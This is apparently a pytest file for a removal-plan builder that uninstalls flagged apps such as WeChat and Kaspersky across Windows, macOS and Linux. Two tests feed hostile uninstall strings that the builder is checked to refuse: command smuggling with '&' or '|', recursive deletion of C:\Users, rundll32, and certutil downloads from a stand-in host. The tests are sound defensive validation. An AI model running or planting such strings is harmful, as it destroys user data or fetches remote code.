"""Removal plans built from fixture evidence, asserted exactly for each platform and install kind."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from appwarden.core.findings import Evidence, Finding
from appwarden.core.policy.loader import load_policies
from appwarden.core.policy.model import Enforcement
from appwarden.core.removal.builder import APT_OPTIONS, Host, build_plan
from appwarden.core.i18n import Translator
from appwarden.core.messages import Message
from appwarden.core.removal.model import Actor, FileAction, StepKind, shown as shown_text
from appwarden.core.sources.base import LINUX, MACOS, WINDOWS, EvidenceKind, ScanTarget

POLICIES = load_policies()
TRANSLATOR = Translator("en")
INSTALLED, RUNNING = EvidenceKind.INSTALLED, EvidenceKind.RUNNING
UNINSTALL_32 = r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall"
KES = "{27534751-4A40-48BD-B393-BC3BF28C876E}"
WECHAT_FOLDER = r"C:\Program Files (x86)\Tencent\WeChat"
MSIEXEC = r"C:\Windows\System32\msiexec.exe"


def finding(rule_id: str, *evidence: Evidence) -> Finding:
    rule = POLICIES.rule(rule_id)
    return Finding(rule, POLICIES.directive(rule.directive_id), Enforcement.RECOMMENDED, evidence)


def apt_simulation(*removed: str):
    """What `apt-get -s remove` prints (its Remv lines), for plans built without the real packages;
    tests/core/removal/test_package_removals.py runs the real apt-get on real packages."""
    return lambda argv: "".join(f"Remv {name} [1.0]\n" for name in removed or argv[-1:])


def host(tmp_path: Path, is_root: bool = True, programs=("apt-get", "dnf", "pkexec"), simulate=None) -> Host:
    return Host(is_root, lambda name: name in programs, tmp_path / "home", simulate=simulate or apt_simulation())


def summary(plan):
    """Each step as (id, kind, actor, needs admin, argvs, refusal template)."""
    return [
        (s.id, s.kind, s.actor, s.needs_admin, [c.argv for c in s.commands], s.refused.template if s.refused else None)
        for s in plan.steps
    ]


def windows_entry(uninstall: str, location: str = WECHAT_FOLDER, key: str = "WeChat") -> Evidence:
    details = (("view", "32-bit"), ("scope", "machine"), ("install_location", location), ("uninstall_string", uninstall))
    return Evidence("windows_uninstall", INSTALLED, "windows_uninstall_key", key, f"{UNINSTALL_32}\\{key}", "3.9.12.51", "微信", details)


def test_windows_nsis_uninstaller(tmp_path):
    evidence = windows_entry(rf'"{WECHAT_FOLDER}\Uninstall.exe"')
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    assert summary(plan) == [
        (f"uninstall:windows_uninstall:{UNINSTALL_32}\\WeChat", StepKind.UNINSTALL, Actor.APPWARDEN, True,
         [(rf"{WECHAT_FOLDER}\Uninstall.exe",)], None),
        # No chat folder on this computer: no step asks what to do with the chats.
        ("restart", StepKind.RESTART, Actor.PERSON, False, [], None),
        ("verify", StepKind.VERIFY, Actor.APPWARDEN, False, [], None),
    ]
    assert plan.steps[-1].sources == ("windows_uninstall",)


def test_windows_msi_product_runs_msiexec_with_the_evidence_code(tmp_path):
    details = (("view", "64-bit"), ("scope", "machine"), ("uninstall_string", f"MsiExec.exe /X{KES}"))
    evidence = (
        Evidence("windows_uninstall", INSTALLED, "windows_uninstall_key", KES, rf"HKLM\SOFTWARE\x\Uninstall\{KES}", "12.4", "Kaspersky Endpoint Security for Windows", details),
        Evidence("windows_uninstall", INSTALLED, "msi_product_code", KES, rf"HKLM\SOFTWARE\x\Uninstall\{KES}", "12.4", "Kaspersky Endpoint Security for Windows", details),
    )
    plan = build_plan(finding("kaspersky", *evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    assert summary(plan)[1] == (
        rf"uninstall:windows_uninstall:HKLM\SOFTWARE\x\Uninstall\{KES}", StepKind.UNINSTALL, Actor.APPWARDEN, True,
        [(MSIEXEC, "/x", KES)], None,
    )
    # Self-protection is turned off before the uninstaller runs; the removal tool and the
    # certificate come after it (the pack's `when`). Ids keep the pack's order.
    assert [s.id for s in plan.steps] == ["vendor:1", plan.steps[1].id, "vendor:2", "vendor:3", "restart", "verify"]
    assert [shown_text(s.title, TRANSLATOR) for s in plan.steps[:4]] == [
        "Turn off Kaspersky's self-protection, or get the removal password",
        "Uninstall Kaspersky Endpoint Security for Windows with its own uninstaller",
        "If a Kaspersky entry will not go away, use Kaspersky's removal tool",
        "Have Kaspersky's root certificate removed",
    ]


@pytest.mark.parametrize(
    ("uninstall", "reason"),
    [
        (rf'"{WECHAT_FOLDER}\Uninstall.exe" /S & calc.exe', "the uninstall command uses {characters}, which only a command shell understands"),
        (rf'"{WECHAT_FOLDER}\Uninstall.exe" | del C:\Users', "the uninstall command uses {characters}, which only a command shell understands"),
        (rf'"{WECHAT_FOLDER}\Uninst"all.exe" /S', "the uninstall command has unbalanced quotation marks"),
        (r'"C:\Users\Public\Uninstall.exe"', "the uninstaller {program} is outside the app's folder {folder}"),
        (rf"{WECHAT_FOLDER}/../../../Windows/System32/certutil.exe -urlcache -f http://example.invalid/u.exe",
         "the uninstaller {program} is outside the app's folder {folder}"),
        (r"cmd /c rd /s /q C:\Users", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
        (r"rundll32.exe C:\x.dll,Go", "the uninstall command starts {program}, which runs other commands, not an uninstaller"),
        (f"MsiExec.exe /X{KES}", "the Windows Installer command names product {code}, which is not this app's"),
    ],
)
def test_hostile_uninstall_strings_become_refused_person_steps(tmp_path, uninstall, reason):
    plan = build_plan(finding("wechat", windows_entry(uninstall)), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    step = plan.steps[0]
    assert (step.actor, step.commands, step.refused.template) == (Actor.PERSON, (), reason)
    assert "restart" not in [s.id for s in plan.steps]


def test_windows_msi_entry_without_an_uninstall_string_runs_the_msiexec_of_the_hosts_windows_folder(tmp_path):
    details = (("view", "64-bit"), ("scope", "machine"))
    evidence = Evidence("windows_uninstall", INSTALLED, "msi_product_code", KES, rf"HKLM\SOFTWARE\x\Uninstall\{KES}", "12.4", "KES", details)
    windows_host = Host(True, lambda name: False, tmp_path / "home", windows_folder=r"D:\WINNT")
    plan = build_plan(finding("kaspersky", evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, windows_host)
    (uninstall,) = [step for step in summary(plan) if step[1] == StepKind.UNINSTALL]
    assert uninstall[4] == [(r"D:\WINNT\System32\msiexec.exe", "/x", KES)]


@pytest.mark.skipif(os.name == "nt", reason="on Windows the folder is the one Windows reports")
def test_a_host_that_is_not_windows_names_the_default_windows_folder():
    assert Host.this_computer().windows_folder == "C:\\Windows"


@pytest.mark.parametrize(
    ("location", "uninstall", "what"),
    [
        (r"C:\Windows\System32", r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe u.exe",
         "a Windows folder or a folder inside it"),
        ("C:\\", r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe u.exe", "the root folder of a drive"),
        (r"C:\Users\ana\AppData\Roaming", r"C:\Users\ana\AppData\Roaming\x\u.exe", "a user's AppData folder"),
    ],
)
def test_an_entry_whose_install_folder_is_shared_becomes_a_refused_person_step(tmp_path, location, uninstall, what):
    plan = build_plan(finding("wechat", windows_entry(uninstall, location)), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    step = plan.steps[0]
    reason = Message.of(
        "the entry says the app is installed in {folder}, which is {what}, not an app's own folder, so its uninstaller cannot be checked",
        folder=location, what=Message.of(what),
    )
    assert (step.actor, step.commands, step.refused) == (Actor.PERSON, (), reason)
    assert dict(step.explanation.values)["reason"] == reason
    assert "restart" not in [s.id for s in plan.steps]


def test_store_package_is_a_person_step_with_the_it_command(tmp_path):
    full = "BytedancePte.Ltd.TikTok_1.0.0.0_x64__6yccndn6064se"
    details = (("scope", "user"), ("user", "ana"), ("package_family_name", "BytedancePte.Ltd.TikTok_6yccndn6064se"), ("package_full_name", full))
    evidence = Evidence("windows_store", INSTALLED, "msix", "BytedancePte.Ltd.TikTok", r"C:\Users\ana\AppData\Local\Packages\x", "1.0.0.0", "TikTok", details)
    plan = build_plan(finding("tiktok", evidence), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    assert summary(plan) == [
        ("uninstall:windows_store:BytedancePte.Ltd.TikTok:ana", StepKind.UNINSTALL, Actor.PERSON, False,
         [("powershell", "-NoProfile", "-Command", "Remove-AppxPackage", "-Package", full)], None),
        ("verify", StepKind.VERIFY, Actor.APPWARDEN, False, [], None),
    ]
    assert "ms-settings:appsfeatures" in plan.steps[0].explanation.template


def test_macos_bundle_in_a_writable_folder_goes_to_the_trash(tmp_path):
    bundle = tmp_path / "Applications/WeChat.app/Contents/MacOS"
    bundle.mkdir(parents=True)
    (bundle / "WeChat").write_bytes(b"x" * 10)
    evidence = Evidence("macos_apps", INSTALLED, "macos_bundle_id", "com.tencent.xinWeChat", "/Applications/WeChat.app", "4.0", "WeChat", (("kind", "macos_app"),))
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, MACOS, live=True), POLICIES, host(tmp_path))
    step = plan.steps[0]
    assert (step.id, step.actor, step.file_action, step.title.render()) == (
        "uninstall:macos_apps:/Applications/WeChat.app", Actor.APPWARDEN, FileAction.TRASH, "Move WeChat.app to the Trash",
    )
    assert [(p.shown, p.real, p.size_bytes) for p in step.paths] == [("/Applications/WeChat.app", tmp_path / "Applications/WeChat.app", 10)]
    assert [s.id for s in plan.steps] == [step.id, "verify"]


def test_kaspersky_on_a_mac_is_removed_with_its_own_uninstaller_not_the_trash(tmp_path):
    bundle = tmp_path / "Applications/Kaspersky Security Cloud.app/Contents"
    bundle.mkdir(parents=True)
    evidence = (
        Evidence("macos_apps", INSTALLED, "macos_bundle_id", "com.kaspersky.kav", "/Applications/Kaspersky Security Cloud.app", "21.0", "Kaspersky Security Cloud"),
        Evidence("processes", RUNNING, "process", "kav", "/Library/Application Support/Kaspersky Lab/KAV/Binaries/kav", "", "kav", (("pid", "4242"),)),
    )
    plan = build_plan(finding("kaspersky", *evidence), ScanTarget(tmp_path, MACOS, live=True), POLICIES, host(tmp_path))
    assert [(s.id, s.kind, s.actor, s.file_action) for s in plan.steps] == [
        ("vendor:1", StepKind.VENDOR, Actor.PERSON, FileAction.NONE),
        ("quit", StepKind.QUIT, Actor.APPWARDEN, FileAction.NONE),
        ("uninstall:vendor_uninstaller:macos", StepKind.UNINSTALL, Actor.PERSON, FileAction.NONE),
        ("verify", StepKind.VERIFY, Actor.APPWARDEN, FileAction.NONE),
    ]
    vendor, _, uninstall, _ = plan.steps
    assert shown_text(vendor.title, TRANSLATOR) == "Get the removal password if your organisation manages Kaspersky"
    assert shown_text(uninstall.title, TRANSLATOR) == "Uninstall it with AO Kaspersky Lab's own uninstaller"
    assert shown_text(uninstall.explanation, TRANSLATOR).startswith(
        "Do not drag Kaspersky to the Trash: its background services would stay behind. Run Kaspersky's own uninstaller instead."
    )
    assert shown_text(uninstall.check, TRANSLATOR) == "AppWarden no longer finds /Applications/Kaspersky Security Cloud.app."
    assert (uninstall.commands, uninstall.paths) == ((), ())
    # Nothing in the plan moves anything to the Trash.
    assert all("Trash" not in shown_text(s.title, TRANSLATOR) for s in plan.steps)


def test_kaspersky_on_windows_without_an_uninstall_entry_says_where_its_uninstaller_is(tmp_path):
    service = Evidence("windows_services", EvidenceKind.SERVICE, "windows_service", "AVP", r"HKLM\SYSTEM\CurrentControlSet\Services\AVP")
    plan = build_plan(finding("kaspersky", service), ScanTarget(tmp_path, WINDOWS, live=True), POLICIES, host(tmp_path))
    assert [s.id for s in plan.steps] == ["vendor:1", "uninstall:guidance", "vendor:2", "vendor:3", "verify"]
    assert shown_text(plan.steps[1].explanation, TRANSLATOR).startswith(
        "Open Settings > Apps > Installed apps (Windows 10: Apps & features). Find each entry whose name starts with \"Kaspersky\""
    )


def test_a_pack_without_vendor_uninstaller_or_when_keeps_the_trash_and_vendor_steps_after(tmp_path):
    bundle = tmp_path / "Applications/WeChat.app"
    bundle.mkdir(parents=True)
    chats = tmp_path / "Users/ana/Library/Containers/com.tencent.xinWeChat"
    chats.mkdir(parents=True)  # the chat data the vendor step is about
    evidence = Evidence("macos_apps", INSTALLED, "macos_bundle_id", "com.tencent.xinWeChat", "/Applications/WeChat.app", "4.0", "WeChat")
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, MACOS, live=True), POLICIES, host(tmp_path))
    leftover = "leftover:/Users/ana/Library/Containers/com.tencent.xinWeChat"
    assert [(s.id, s.file_action) for s in plan.steps] == [
        ("uninstall:macos_apps:/Applications/WeChat.app", FileAction.TRASH), ("vendor:1", FileAction.NONE),
        (leftover, FileAction.DELETE), ("verify", FileAction.NONE),
    ]
    assert plan.steps[1].about_steps == (leftover,)


def test_a_step_about_the_chat_data_is_offered_only_while_a_chat_folder_is_there(tmp_path):
    """/opt/wechat is left behind but holds no chats: the chat step is about the chat folders only."""
    (tmp_path / "opt/wechat").mkdir(parents=True)
    evidence = Evidence("snap", INSTALLED, "snap", "wechat", "/snap/wechat/12", details=(("revision", "12"),))
    target = ScanTarget(tmp_path, LINUX, live=True)
    without = build_plan(finding("wechat", evidence), target, POLICIES, host(tmp_path))
    assert [s.id for s in without.steps] == ["uninstall:snap:wechat", "leftover:/opt/wechat", "verify"]
    (tmp_path / "home/ana/.xwechat").mkdir(parents=True)
    plan = build_plan(finding("wechat", evidence), target, POLICIES, host(tmp_path))
    assert [s.id for s in plan.steps] == ["uninstall:snap:wechat", "vendor:1", "leftover:/home/ana/.xwechat", "leftover:/opt/wechat", "verify"]
    from appwarden.core.removal.recheck import already_done

    assert already_done(plan, plan.steps[1]) is None
    (tmp_path / "home/ana/.xwechat").rmdir()  # the person deleted the chats before the step came up
    assert already_done(plan, plan.steps[1]).render() == "Nothing the app left behind remains, so there is nothing to decide."


def test_macos_bundle_on_a_mounted_disk_is_only_explained(tmp_path):
    evidence = Evidence("macos_apps", INSTALLED, "macos_bundle_id", "com.tencent.xinWeChat", "/Applications/WeChat.app", "4.0", "WeChat")
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, MACOS, live=False), POLICIES, host(tmp_path))
    assert [(s.actor, s.file_action) for s in plan.steps[:-1]] == [(Actor.PERSON, FileAction.NONE)]


@pytest.mark.parametrize(("scope", "option", "admin"), [("user", "--user", False), ("system", "--system", True)])
def test_flatpak_uses_the_installation_it_was_found_in(tmp_path, scope, option, admin):
    evidence = Evidence("flatpak", INSTALLED, "flatpak", "com.tencent.WeChat", "/var/lib/flatpak/app/com.tencent.WeChat/x86_64/stable", details=(("scope", scope),))
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path, is_root=False))
    assert summary(plan)[0] == (
        f"uninstall:flatpak:com.tencent.WeChat:{scope}", StepKind.UNINSTALL, Actor.APPWARDEN, admin,
        [("flatpak", "uninstall", "-y", option, "com.tencent.WeChat")], None,
    )


def test_snap(tmp_path):
    evidence = Evidence("snap", INSTALLED, "snap", "wechat", "/snap/wechat/12", details=(("revision", "12"),))
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path))
    assert summary(plan) == [
        ("uninstall:snap:wechat", StepKind.UNINSTALL, Actor.APPWARDEN, True, [("snap", "remove", "wechat")], None),
        ("verify", StepKind.VERIFY, Actor.APPWARDEN, False, [], None),
    ]


@pytest.mark.parametrize(
    ("is_root", "programs", "actor", "argv"),
    [
        (True, ("apt-get",), Actor.APPWARDEN, ("apt-get", "remove", "-y", *APT_OPTIONS, "wechat")),
        (True, (), Actor.APPWARDEN, ("dpkg", "--remove", "wechat")),
        (False, ("apt-get", "pkexec"), Actor.APPWARDEN, ("pkexec", "apt-get", "remove", "-y", *APT_OPTIONS, "wechat")),
        (False, ("apt-get",), Actor.PERSON, ("sudo", "apt-get", "remove", "wechat")),  # the person sees apt-get's own list
    ],
)
def test_debian_package_through_pkexec_when_not_root(tmp_path, is_root, programs, actor, argv):
    evidence = Evidence("dpkg", INSTALLED, "deb", "wechat", "/var/lib/dpkg/status (wechat)", details=(("state", "installed"),))
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path, is_root, programs))
    assert (plan.steps[0].actor, plan.steps[0].commands[0].argv) == (actor, argv)


def test_dpkg_configuration_leftover_is_purged(tmp_path):
    evidence = Evidence("dpkg", EvidenceKind.LEFTOVER, "deb", "wechat", "/var/lib/dpkg/status (wechat)", details=(("state", "config-files"),))
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path))
    assert plan.steps[0].commands[0].argv == ("dpkg", "--purge", "wechat")


def test_appimage_and_leftovers_with_sizes(tmp_path):
    (tmp_path / "opt/wechat/sub").mkdir(parents=True)
    (tmp_path / "opt/wechat/sub/data").write_bytes(b"y" * 1234)
    (tmp_path / "opt/wechat/link").symlink_to("/usr")  # not followed: counts nothing
    image = tmp_path / "home/ana/Applications/WeChatLinux_x86_64.AppImage"
    image.parent.mkdir(parents=True)
    image.write_bytes(b"z" * 7)
    evidence = Evidence("appimage", INSTALLED, "appimage", "WeChatLinux", "/home/ana/Applications/WeChatLinux_x86_64.AppImage")
    plan = build_plan(finding("wechat", evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path))
    assert [(s.id, s.file_action, [(p.shown, p.size_bytes) for p in s.paths]) for s in plan.steps if s.paths] == [
        ("uninstall:appimage:/home/ana/Applications/WeChatLinux_x86_64.AppImage", FileAction.DELETE,
         [("/home/ana/Applications/WeChatLinux_x86_64.AppImage", 7)]),
        ("leftover:/opt/wechat", FileAction.DELETE, [("/opt/wechat", 1234)]),
    ]
    assert plan.step("leftover:/opt/wechat").explanation.render() == (
        "The app left this behind (1.2 kB). It may hold your data: delete it only if you do not need it, "
        "following your organisation's rules on keeping records."
    )


def test_running_processes_give_a_quit_step_first(tmp_path):
    evidence = (
        Evidence("processes", RUNNING, "process", "wechat", "pid 41", name="wechat", details=(("pid", "41"),)),
        Evidence("processes", RUNNING, "process", "wechat", "pid 40", name="wechat", details=(("pid", "40"),)),
    )
    plan = build_plan(finding("wechat", *evidence), ScanTarget(tmp_path, LINUX, live=True), POLICIES, host(tmp_path))
    assert (plan.steps[0].id, plan.steps[0].pids, plan.steps[0].process_names) == ("quit", (40, 41), ("wechat",))
    assert plan.steps[1].id == "uninstall:guidance"  # running, but nothing says how it was installed


@pytest.mark.parametrize(
    ("size", "english", "french"),
    [
        (0, "empty", "vide"), (1, "1 byte", "1 octet"), (999, "999 bytes", "999 octets"),
        (43_888, "43.9 kB", "43,9 ko"), (1_500_000, "1.5 MB", "1,5 Mo"), (99_960_000, "100 MB", "100 Mo"),
        (250_000_000, "250 MB", "250 Mo"), (3_200_000_000, "3.2 GB", "3,2 Go"),
    ],
)
def test_sizes_are_shown_as_people_read_them(size, english, french):
    from appwarden.core.i18n import Translator
    from appwarden.core.removal.builder import size_words

    assert (size_words(size).render(Translator("en")), size_words(size).render(Translator("fr"))) == (english, french)
